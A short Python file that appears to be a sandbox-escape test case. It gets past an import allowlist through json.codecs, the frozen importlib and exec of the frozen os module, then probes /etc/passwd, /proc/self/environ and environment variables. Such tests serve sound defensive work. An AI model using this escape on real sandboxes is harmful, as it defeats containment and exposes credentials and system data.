# trick: load frozen modules that the allowlist does not hold and use what they bring
# want: nothing
# native: finds


def reach(name):
    """The module of that name, past the allowlist: a loaded one, else through the interpreter's own import."""
    import json
    codecs = json.codecs
    modules = codecs.sys.modules
    if modules.get(name) is None:
        try:
            codecs.builtins.__import__(name)
        except ImportError:
            modules["_frozen_importlib"]._gcd_import(name)
    print("reached", name)
    return modules[name]


def look(posix):
    """What this module gives away of the machine outside."""
    found = []
    for path in ("/etc/passwd", "/proc/self/environ", "/", "."):
        for name in ("open", "listdir", "stat"):
            try:
                getattr(posix, name)(*((path, 0) if name == "open" else (path,)))
            except (AttributeError, OSError):
                continue
            found.append(f"{name} {path}")
    if getattr(posix, "environ", None):
        found.append("environ")
    return found


def run(ctx):
    imp, found = reach("_imp"), []
    names = imp._frozen_module_names() if hasattr(imp, "_frozen_module_names") else []
    importer = reach("_frozen_importlib").FrozenImporter
    for name in (*names, "zipimport", "site", "os", "runpy", "__hello__", "__phello__.spam"):
        if name in ("__main__", "__hello__", "__phello__", "__phello__.spam", "__hello_alias__", "__phello_alias__", "__phello_alias__.spam", "__hello_only__"):
            continue
        try:
            importer.find_spec(name)
            if name in ("os", "posixpath", "ntpath"):
                namespace = {"__name__": name}
                exec(imp.get_frozen_object(name), namespace)
                if name == "os" and (namespace["environ"] or namespace["listdir"]):
                    class Fresh:
                        pass
                    Fresh.open, Fresh.listdir, Fresh.stat, Fresh.environ = map(staticmethod, (namespace["open"], namespace["listdir"], namespace["stat"], None))
                    Fresh.environ = dict(namespace["environ"])
                    found += look(Fresh)
        except (ImportError, KeyError, AttributeError):
            pass
    return found
